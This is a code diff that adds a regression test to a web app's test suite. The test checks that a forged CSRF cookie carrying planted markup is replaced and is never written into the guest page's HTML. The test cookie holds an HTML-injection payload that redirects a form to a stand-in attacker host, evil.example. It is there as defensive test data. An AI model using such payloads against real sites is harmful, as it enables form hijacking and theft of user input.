@@ -132,6 +132,23 @@ describe('the guest page before the app', () => {
     expect(await hot.text()).toContain(`name="_csrf" value="${minted}"`)
   })
 
+  test('a CSRF cookie spkey could not have minted (planted markup) is replaced, never written into the page', async () => {
+    const ctx = testContext()
+    const { uuid, path } = await page(ctx)
+    const { get } = hotWithProbe(ctx)
+    const planted = { accept: 'text/html', cookie: 'spkey_csrf="><form action=//evil.example><input name=x' }
+
+    const fromRoute = await ctx.call('GET', path, { headers: planted })
+    const hot = await get('/temp-keys/:uuid', path, { uuid }, planted)
+
+    for (const reply of [{ headers: fromRoute.headers, html: fromRoute.text }, { headers: hot.headers, html: await hot.text() }]) {
+      const minted = /^spkey_csrf=([A-Za-z0-9_-]{32});/.exec(reply.headers.get('set-cookie') ?? '')?.[1]
+      expect(minted).toBeDefined()
+      expect(reply.html).toContain(`name="_csrf" value="${minted}"`)
+      expect(reply.html).not.toContain('evil.example')
+    }
+  })
+
   test('a signed-in viewer, the flash after an open, an unknown key and a changed key go on to the app', async () => {
     const ctx = testContext()
     const { uuid, path, lock } = await page(ctx)
